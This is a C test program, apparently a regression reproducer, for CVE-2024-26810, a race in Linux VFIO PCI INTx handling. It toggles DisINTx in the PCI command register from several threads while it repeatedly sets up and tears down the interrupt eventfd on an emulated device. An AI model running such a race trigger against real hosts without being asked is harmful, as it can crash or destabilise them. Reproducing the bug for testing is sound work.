// SPDX-License-Identifier: GPL-2.0-only
/*
 * CVE-2024-26810: DisINTx is written while the interrupt is being set up or torn down.
 *
 * vfio_pci_intx_unmask() from the configuration space took no igate: it saw the type INTx, and a
 * pending interrupt, where vfio_intx_set_signal() had no eventfd yet, or none any more.
 */
#include <err.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <time.h>
#include <unistd.h>
#include <linux/pci_regs.h>
#include <linux/vfio.h>

#define RAISE 0x60 /* registers of edu: the interrupt is pending from one write to the other */
#define LOWER 0x64
#define THREADS 3 /* more than CPUs: one is stopped where it should not be */

static int device;

static unsigned long long offset_of(unsigned int index)
{
	struct vfio_region_info info = { .argsz = sizeof(info), .index = index };

	if (ioctl(device, VFIO_DEVICE_GET_REGION_INFO, &info))
		err(2, "VFIO_DEVICE_GET_REGION_INFO");
	return info.offset;
}

static void write_register(unsigned int offset, uint32_t value)
{
	static unsigned long long bar;

	bar = bar ?: offset_of(VFIO_PCI_BAR0_REGION_INDEX) + 1;
	if (pwrite(device, &value, 4, bar - 1 + offset) != 4)
		err(2, "BAR 0");
}

/* DisINTx in the command register, with memory on. */
static void write_command(uint16_t value)
{
	static unsigned long long config;

	value |= PCI_COMMAND_MEMORY;
	config = config ?: offset_of(VFIO_PCI_CONFIG_REGION_INDEX);
	if (pwrite(device, &value, 2, config + PCI_COMMAND) != 2)
		err(2, "PCI_COMMAND");
}

/* `eventfd` is for VFIO_IRQ_SET_DATA_EVENTFD. */
static int set_intx(uint32_t flags, uint32_t count, int32_t eventfd)
{
	struct {
		struct vfio_irq_set head;
		int32_t eventfd;
	} set = {
		.head = {
			.argsz = sizeof(set.head) +
				 (flags & VFIO_IRQ_SET_DATA_EVENTFD ? sizeof(set.eventfd) : 0),
			.flags = flags,
			.index = VFIO_PCI_INTX_IRQ_INDEX,
			.count = count,
		},
	};

	memcpy(set.head.data, &eventfd, sizeof(eventfd));
	return ioctl(device, VFIO_DEVICE_SET_IRQS, &set);
}

static void open_device(void)
{
	const char *bdf = getenv("VFIO_LAB_BDF"), *path = getenv("VFIO_LAB_GROUP");
	int container = open("/dev/vfio/vfio", O_RDWR), group;

	if (!path || container < 0) {
		printf("1..0 # SKIP the kernel has no groups\n");
		exit(0);
	}
	group = open(path, O_RDWR);
	if (group < 0 || ioctl(group, VFIO_GROUP_SET_CONTAINER, &container))
		err(2, "%s", path);
	if (ioctl(container, VFIO_SET_IOMMU, VFIO_TYPE1_IOMMU))
		err(2, "VFIO_SET_IOMMU");
	device = ioctl(group, VFIO_GROUP_GET_DEVICE_FD, bdf);
	if (device < 0)
		err(2, "VFIO_GROUP_GET_DEVICE_FD");
	write_command(0);
}

#define EVENTFD (VFIO_IRQ_SET_DATA_EVENTFD | VFIO_IRQ_SET_ACTION_TRIGGER)
#define NONE VFIO_IRQ_SET_DATA_NONE

static volatile int done;

static void *toggle(void *unused)
{
	while (!done) {
		write_command(PCI_COMMAND_INTX_DISABLE);
		write_command(0);
	}
	return unused;
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 10);
	int rounds = 0, fd = eventfd(0, 0);
	pthread_t threads[THREADS];

	open_device();
	write_register(RAISE, 1);
	for (int i = 0; i < THREADS; i++)
		if (pthread_create(&threads[i], NULL, toggle, NULL))
			errx(2, "pthread_create");
	for (; time(NULL) < end; rounds++)
		if (set_intx(EVENTFD, 1, fd) || set_intx(NONE | VFIO_IRQ_SET_ACTION_TRIGGER, 0, 0))
			err(2, "VFIO_DEVICE_SET_IRQS");
	done = 1;
	for (int i = 0; i < THREADS; i++)
		pthread_join(threads[i], NULL);
	write_register(LOWER, 1);
	printf("set up and torn down %d times\n", rounds);
	return 0;
}
